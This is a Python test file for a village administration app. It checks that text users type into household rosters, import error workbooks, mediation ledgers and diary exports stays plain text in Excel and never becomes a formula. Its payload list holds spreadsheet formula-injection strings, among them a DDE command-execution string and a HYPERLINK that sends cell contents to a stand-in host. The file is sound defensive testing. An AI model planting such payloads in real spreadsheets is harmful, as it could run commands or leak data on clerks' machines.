"""Nothing a user typed is ever a formula in a workbook the program writes: the 户籍台账, the error
workbook of a roster import, the 调处台账 and the 民情日记 workbooks. A clerk opening them sees the text
as it was typed, and nothing runs."""

from __future__ import annotations

import datetime as dt
import zipfile

import openpyxl

from db.models import Household, Person

from app.diary import entries, ledger
from app.households import excel_apply, excel_export
from app.mediation import ledger as case_ledger

from tests.diary_helpers import NOW, add_cadre, entry_input
from tests.mediation_helpers import make_mediator, new_case

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"点我查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "=1+1",
]


def _no_formula_anywhere(path) -> None:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def _cells(path) -> list:
    wb = openpyxl.load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_the_household_roster_export_keeps_typed_formulas_as_text(village_ws, village_admin, tmp_path):
    with village_ws.session() as s:
        for n, payload in enumerate(PAYLOADS):
            h = Household(head_name=payload, group_name="一组", address=payload, notes=payload)
            s.add(h)
            s.flush()
            p = Person(household_id=h.id, name=payload, relation="户主", occupation=payload)
            s.add(p)
            s.flush()
            h.head_id = p.id
            h.household_no = f"{n:03d}"
    out = tmp_path / "台账.xlsx"
    with village_ws.work(village_admin) as w:
        excel_export.export_roster(w, out)
    _no_formula_anywhere(out)
    cells = _cells(out)
    assert all(c.data_type != "f" for c in cells)
    texts = {c.value for c in cells}
    assert set(PAYLOADS) <= texts  # the clerk sees what was typed


def test_the_error_workbook_keeps_a_bad_rows_formula_as_text(village_ws, tmp_path):
    book = tmp_path / "名册.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["组", "户主姓名", "姓名", "与户主关系", "身份证号", "住址"])
    for payload in PAYLOADS:
        ws.append(["一组", "张三", "张三", "户主", "12345", payload])  # a bad ID number makes the row invalid
    for row in ws.iter_rows(min_row=2):  # the workbook arrives with text cells, as a clerk typed them
        for c in row:
            if isinstance(c.value, str) and c.value.startswith("="):
                c.data_type = "s"
    wb.save(book)
    errors = tmp_path / "错误.xlsx"
    with village_ws.work() as w:
        excel_apply.import_file(w, book, errors_out=errors, dry_run=True, today=dt.date(2026, 1, 1))
    assert errors.exists()
    _no_formula_anywhere(errors)
    assert set(PAYLOADS) <= {c.value for c in _cells(errors)}


def test_the_case_ledger_keeps_a_typed_formula_as_text(village_ws, tmp_path):
    mediator = make_mediator(village_ws)
    with village_ws.work(mediator) as w:
        for payload in PAYLOADS[:3]:
            new_case(w, title=f"{payload}", facts=payload)
    out = tmp_path / "调处台账.xlsx"
    with village_ws.work(None) as w:
        case_ledger.export_ledger(w, out)
    _no_formula_anywhere(out)
    assert set(PAYLOADS[:3]) <= {c.value for c in _cells(out)}


def test_the_diary_workbooks_keep_a_typed_formula_as_text(village_ws, tmp_path):
    from tests.diary_helpers import add_household

    cadre = add_cadre(village_ws)
    hid, pid, _ = add_household(village_ws, "张三丰")
    with village_ws.work(cadre) as w:
        entries.save_entry(
            w, entry_input(hid, pid, situation=PAYLOADS[0], demands=[("医疗", PAYLOADS[1])]), now=NOW
        )
    for name, export in (("日记.xlsx", ledger.export_diary), ("台账.xlsx", ledger.export_ledger)):
        out = tmp_path / name
        with village_ws.work() as w:
            export(w, out, village_name="张家村")
        _no_formula_anywhere(out)
        assert {c.data_type for c in _cells(out)} <= {"s", "n", "d"}
